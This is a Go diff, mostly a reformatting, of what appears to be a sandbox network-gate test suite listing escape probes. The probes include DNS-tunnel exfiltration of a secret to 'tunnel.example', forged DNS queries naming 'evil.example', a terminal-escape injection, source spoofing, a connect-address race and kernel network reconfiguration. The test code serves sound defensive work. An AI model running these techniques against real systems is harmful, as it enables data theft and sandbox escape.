@@ -74,7 +74,8 @@ var gateAttacks = []Attack{
 	toUDP("gate-dns-elsewhere", "ask another name server", "8.8.8.8:53", 0, string(question("secret.example", 1, 1))),
 	toUDP("gate-quic", "speak HTTP/3", "1.1.1.1:443", 0, strings.Repeat("\xc0", 1200)),
 	toUDP("gate-ntp", "ask for the time", "1.1.1.1:123", 0, "\x1b"+strings.Repeat("\x00", 47)),
-	toUDP("gate-multicast", "call all name servers nearby", "224.0.0.251:5353", 0, string(question("printer.local", 12, 1))),
+	toUDP("gate-multicast", "call all name servers nearby", "224.0.0.251:5353", 0,
+		string(question("printer.local", 12, 1))),
 	toUDP("gate-broadcast", "call everybody nearby", "255.255.255.255:{udp}", 0, "x"),
 	toUDP("gate-ssdp", "call all devices nearby", "239.255.255.250:1900", 0, "M-SEARCH * HTTP/1.1\r\n\r\n"),
 
@@ -96,132 +97,153 @@ var gateAttacks = []Attack{
 	asked("gate-dns-localhost", "ask for the host itself", "localhost", 1, 1),
 	asked("gate-dns-terminal", "write to the terminal of whoever reads the name", "\x1b]0;x\x07\x1b[2J{name}", 1, 1),
 
-	{Name: "gate-dns-two", Because: noQuery, What: "ask for two names at once, the first of which is allowed", Applies: gated, Run: func(f Facts) error {
-		q := question(f.Gate.Name, 1, 1)
-		q[5] = 2
-		return dns(f, append(q, question("evil.example", 1, 1)[12:]...))
-	}},
-	{Name: "gate-dns-loop", Because: noQuery, What: "ask for a name that points at itself", Applies: gated, Run: func(f Facts) error {
-		return dns(f, append(question("", 1, 1)[:12], 0xc0, 12, 0, 1, 0, 1))
-	}},
+	{Name: "gate-dns-two", Because: noQuery, What: "ask for two names at once, the first of which is allowed",
+		Applies: gated, Run: func(f Facts) error {
+			q := question(f.Gate.Name, 1, 1)
+			q[5] = 2
+			return dns(f, append(q, question("evil.example", 1, 1)[12:]...))
+		}},
+	{Name: "gate-dns-loop", Because: noQuery, What: "ask for a name that points at itself", Applies: gated,
+		Run: func(f Facts) error {
+			return dns(f, append(question("", 1, 1)[:12], 0xc0, 12, 0, 1, 0, 1))
+		}},
 	{Name: "gate-dns-update", Because: noQuery, What: "change a zone", Applies: gated, Run: func(f Facts) error {
 		q := question("evil.example", 6, 1)
 		q[2] |= 5 << 3
 		return dns(f, q)
 	}},
-	{Name: "gate-ask-tunnel", Because: tooMany, What: "send a secret away as names that a person is asked about, piece by piece", Applies: asks, Run: func(f Facts) error {
-		return flood(f, func(i int) string {
-			at := i % len(f.Secret)
-			return fmt.Sprintf("%x.%d.tunnel.example", f.Secret[at:], i)
-		})
-	}},
-	{Name: "gate-ask-flood", Because: tooMany, What: "have so many questions wait for a person that nothing else is decided", Applies: asks, Run: func(f Facts) error {
-		var fds []int
-		defer func() {
-			for _, fd := range fds {
-				unix.Close(fd)
+	{Name: "gate-ask-tunnel", Because: tooMany,
+		What: "send a secret away as names that a person is asked about, piece by piece", Applies: asks,
+		Run: func(f Facts) error {
+			return flood(f, func(i int) string {
+				at := i % len(f.Secret)
+				return fmt.Sprintf("%x.%d.tunnel.example", f.Secret[at:], i)
+			})
+		}},
+	{Name: "gate-ask-flood", Because: tooMany,
+		What: "have so many questions wait for a person that nothing else is decided", Applies: asks,
+		Run: func(f Facts) error {
+			var fds []int
+			defer func() {
+				for _, fd := range fds {
+					unix.Close(fd)
+				}
+			}()
+			for i := range 200 { // handshakes, of which each would be held
+				fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, 0)
+				if err != nil {
+					return err
+				}
+				fds = append(fds, fd)
+				if err := unix.Connect(fd, &unix.SockaddrInet4{Port: 443, Addr: [4]byte{1, 1, byte(i), 1}}); err == nil {
+					return nil
+				}
 			}
-		}()
-		for i := range 200 { // handshakes, of which each would be held
-			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, 0)
+			return flood(f, func(i int) string { return fmt.Sprintf("flood-%d.example", i) })
+		}},
+	{Name: "gate-fastopen", What: "send data before there is a connection", Applies: gated, Told: "{host}:{tcp}",
+		Run: func(f Facts) error {
+			at, err := f.place("{host}:{tcp}")
 			if err != nil {
 				return err
 			}
-			fds = append(fds, fd)
-			if err := unix.Connect(fd, &unix.SockaddrInet4{Port: 443, Addr: [4]byte{1, 1, byte(i), 1}}); err == nil {
+			return withSocket(at, unix.SOCK_STREAM, 0, func(fd int, to unix.Sockaddr) error {
+				if err := unix.Sendto(fd, []byte("x"), unix.MSG_FASTOPEN, to); err != nil {
+					return err
+				}
+				return connected(fd)
+			})
+		}},
+	{Name: "gate-fastopen-connect", What: "the same by another option", Applies: gated, Told: "{host}:{tcp}",
+		Run: func(f Facts) error {
+			at, err := f.place("{host}:{tcp}")
+			if err != nil {
+				return err
+			}
+			return withSocket(at, unix.SOCK_STREAM, 0, func(fd int, to unix.Sockaddr) error {
+				if err := unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_CONNECT, 1); err != nil {
+					return err
+				}
+				if err := unix.Connect(fd, to); err != nil {
+					return err
+				}
+				if _, err := unix.Write(fd, []byte("x")); err != nil {
+					return err
+				}
+				return connected(fd)
+			})
+		}},
+	{Name: "gate-race", What: "change the address while it is looked at", Applies: gated, Told: "{host}:{tcp}",
+		Run: raceAddress},
+	{Name: "gate-source-route", None: Kernel, What: "have a packet go another way", Applies: gated,
+		Run: func(f Facts) error {
+			return tcpWith(f, func(fd int) error {
+				return unix.SetsockoptString(fd, unix.IPPROTO_IP, unix.IP_OPTIONS, "\x83\x07\x04\x7f\x00\x00\x01\x00")
+			})
+		}},
+	{Name: "gate-spoof", None: Kernel, What: "send from an address that is somebody else's", Applies: gated,
+		Run: func(f Facts) error {
+			return tcpWith(f, func(fd int) error {
+				if err := unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_FREEBIND, 1); err != nil {
+					return err
+				}
+				return unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}})
+			})
+		}},
+	{Name: "gate-interface", None: Kernel, What: "change the interface: its address, its state, its name", Applies: gated,
+		Run: func(f Facts) error {
+			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
+			if err != nil {
+				return err
+			}
+			defer unix.Close(fd)
+			return each(
+				[]uint{unix.SIOCSIFADDR, unix.SIOCSIFFLAGS, unix.SIOCSIFMTU, unix.SIOCSIFNETMASK, unix.SIOCSIFHWADDR,
+					unix.SIOCSIFNAME, unix.SIOCADDRT, unix.SIOCDELRT, unix.SIOCBRADDBR}, func(op uint) error {
+					var req [128]byte
+					copy(req[:], "eth0")
+					if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), uintptr(op), uintptr(unsafe.Pointer(&req[0]))); e != 0 {
+						return e
+					}
+					return nil
+				})
+		}},
+	{Name: "gate-netlink", None: Kernel, What: "change routes, addresses and interfaces by netlink", Applies: gated,
+		Run: func(f Facts) error {
+			return each(
+				[]uint16{unix.RTM_NEWROUTE, unix.RTM_DELROUTE, unix.RTM_NEWADDR, unix.RTM_DELADDR, unix.RTM_DELLINK,
+					unix.RTM_SETLINK, unix.RTM_NEWNEIGH, unix.RTM_NEWRULE, unix.RTM_NEWQDISC}, changeByNetlink)
+		}},
+	{Name: "gate-tun", Emulated: "a device of the sandbox's own kernel, which makes none", None: Kernel,
+		What: "make an interface of one's own", Applies: gated, Run: func(f Facts) error {
+			fd, err := unix.Open("/dev/net/tun", unix.O_RDWR, 0)
+			if err != nil {
+				return err
+			}
+			defer unix.Close(fd)
+			if !f.Own {
 				return nil
 			}
-		}
-		return flood(f, func(i int) string { return fmt.Sprintf("flood-%d.example", i) })
-	}},
-	{Name: "gate-fastopen", What: "send data before there is a connection", Applies: gated, Told: "{host}:{tcp}", Run: func(f Facts) error {
-		at, err := f.place("{host}:{tcp}")
-		if err != nil {
-			return err
-		}
-		return withSocket(at, unix.SOCK_STREAM, 0, func(fd int, to unix.Sockaddr) error {
-			if err := unix.Sendto(fd, []byte("x"), unix.MSG_FASTOPEN, to); err != nil {
-				return err
-			}
-			return connected(fd)
-		})
-	}},
-	{Name: "gate-fastopen-connect", What: "the same by another option", Applies: gated, Told: "{host}:{tcp}", Run: func(f Facts) error {
-		at, err := f.place("{host}:{tcp}")
-		if err != nil {
-			return err
-		}
-		return withSocket(at, unix.SOCK_STREAM, 0, func(fd int, to unix.Sockaddr) error {
-			if err := unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_CONNECT, 1); err != nil {
-				return err
-			}
-			if err := unix.Connect(fd, to); err != nil {
-				return err
-			}
-			if _, err := unix.Write(fd, []byte("x")); err != nil {
-				return err
-			}
-			return connected(fd)
-		})
-	}},
-	{Name: "gate-race", What: "change the address while it is looked at", Applies: gated, Told: "{host}:{tcp}", Run: raceAddress},
-	{Name: "gate-source-route", None: Kernel, What: "have a packet go another way", Applies: gated, Run: func(f Facts) error {
-		return tcpWith(f, func(fd int) error {
-			return unix.SetsockoptString(fd, unix.IPPROTO_IP, unix.IP_OPTIONS, "\x83\x07\x04\x7f\x00\x00\x01\x00")
-		})
-	}},
-	{Name: "gate-spoof", None: Kernel, What: "send from an address that is somebody else's", Applies: gated, Run: func(f Facts) error {
-		return tcpWith(f, func(fd int) error {
-			if err := unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_FREEBIND, 1); err != nil {
-				return err
-			}
-			return unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}})
-		})
-	}},
-	{Name: "gate-interface", None: Kernel, What: "change the interface: its address, its state, its name", Applies: gated, Run: func(f Facts) error {
-		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
-		if err != nil {
-			return err
-		}
-		defer unix.Close(fd)
-		return each([]uint{unix.SIOCSIFADDR, unix.SIOCSIFFLAGS, unix.SIOCSIFMTU, unix.SIOCSIFNETMASK, unix.SIOCSIFHWADDR, unix.SIOCSIFNAME, unix.SIOCADDRT, unix.SIOCDELRT, unix.SIOCBRADDBR}, func(op uint) error {
-			var req [128]byte
-			copy(req[:], "eth0")
-			if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), uintptr(op), uintptr(unsafe.Pointer(&req[0]))); e != 0 {
-				return e
+			req := [40]byte{}
+			copy(req[:], "escape0")
+			req[16] = unix.IFF_TUN
+			if err := sys(unix.SYS_IOCTL, uintptr(fd), unix.TUNSETIFF, ptr(&req)); err != nil {
+				return fmt.Errorf("%w: %w", errOwn, err)
 			}
 			return nil
-		})
-	}},
-	{Name: "gate-netlink", None: Kernel, What: "change routes, addresses and interfaces by netlink", Applies: gated, Run: func(f Facts) error {
-		return each([]uint16{unix.RTM_NEWROUTE, unix.RTM_DELROUTE, unix.RTM_NEWADDR, unix.RTM_DELADDR, unix.RTM_DELLINK, unix.RTM_SETLINK, unix.RTM_NEWNEIGH, unix.RTM_NEWRULE, unix.RTM_NEWQDISC}, changeByNetlink)
-	}},
-	{Name: "gate-tun", Emulated: "a device of the sandbox's own kernel, which makes none", None: Kernel, What: "make an interface of one's own", Applies: gated, Run: func(f Facts) error {
-		fd, err := unix.Open("/dev/net/tun", unix.O_RDWR, 0)
-		if err != nil {
-			return err
-		}
-		defer unix.Close(fd)
-		if !f.Own {
-			return nil
-		}
-		req := [40]byte{}
-		copy(req[:], "escape0")
-		req[16] = unix.IFF_TUN
-		if err := sys(unix.SYS_IOCTL, uintptr(fd), unix.TUNSETIFF, ptr(&req)); err != nil {
-			return fmt.Errorf("%w: %w", errOwn, err)
-		}
-		return nil
-	}},
-	{Name: "gate-forward", Emulated: "settings of the sandbox's own kernel, whose one way out is the gate", None: Kernel, What: "change how the kernel treats packets", Applies: gated, Run: func(f Facts) error {
-		return each([]string{"ipv4/ip_forward", "ipv4/conf/all/route_localnet", "ipv4/conf/eth0/accept_local", "ipv6/conf/all/forwarding", "ipv4/ip_unprivileged_port_start"}, func(p string) error {
-			err := os.WriteFile("/proc/sys/net/"+p, []byte("1"), 0)
-			if p == "ipv4/ip_forward" { // the host's is looked at
-				return f.own(err)
-			}
-			return err
-		})
-	}},
+		}},
+	{Name: "gate-forward", Emulated: "settings of the sandbox's own kernel, whose one way out is the gate", None: Kernel,
+		What: "change how the kernel treats packets", Applies: gated, Run: func(f Facts) error {
+			return each(
+				[]string{"ipv4/ip_forward", "ipv4/conf/all/route_localnet", "ipv4/conf/eth0/accept_local",
+					"ipv6/conf/all/forwarding", "ipv4/ip_unprivileged_port_start"}, func(p string) error {
+					err := os.WriteFile("/proc/sys/net/"+p, []byte("1"), 0)
+					if p == "ipv4/ip_forward" { // the host's is looked at
+						return f.own(err)
+					}
+					return err
+				})
+		}},
 }
 
 // place fills in what a destination leaves open.
@@ -234,7 +256,8 @@ func (f Facts) place(s string) (netip.AddrPort, error) {
 func (f Facts) Fill(s string) string {
 	a := f.host().As4()
 	h := hex.EncodeToString(a[:])
-	return strings.NewReplacer("{host}", f.Gate.Host, "{tcp}", fmt.Sprint(f.Gate.TCP), "{udp}", fmt.Sprint(f.Gate.UDP), "{allowed}", fmt.Sprint(f.Gate.Allowed),
+	return strings.NewReplacer("{host}", f.Gate.Host, "{tcp}", fmt.Sprint(f.Gate.TCP), "{udp}", fmt.Sprint(f.Gate.UDP),
+		"{allowed}", fmt.Sprint(f.Gate.Allowed),
 		"{name}", f.Gate.Name, "{secret}", f.Secret, "{hex}", h[:4]+":"+h[4:]).Replace(s)
 }
 
@@ -265,7 +288,8 @@ func toUDP(name, what, to string, proto int, text string) Attack {
 	if strings.HasPrefix(to, "[::ffff:") {
 		told = strings.NewReplacer("[::ffff:", "", "]", "").Replace(to)
 	}
-	if host, _, _ := strings.Cut(to, ":"); host == "224.0.0.251" || host == "239.255.255.250" || host == "255.255.255.255" {
+	if host, _, _ := strings.Cut(to, ":"); host == "224.0.0.251" || host == "239.255.255.250" ||
+		host == "255.255.255.255" {
 		told = host + ":0" // whatever the port
 	}
 	a := Attack{Name: name, What: what, Applies: gated, Told: told}
@@ -509,7 +533,8 @@ func raceAddress(f Facts) error {
 				return err
 			}
 			defer unix.Close(fd)
-			if _, _, e := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&shared)), unsafe.Sizeof(shared)); e != 0 {
+			if _, _, e := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&shared)),
+				unsafe.Sizeof(shared)); e != 0 {
 				return e
 			}
 			peer, err := unix.Getpeername(fd)
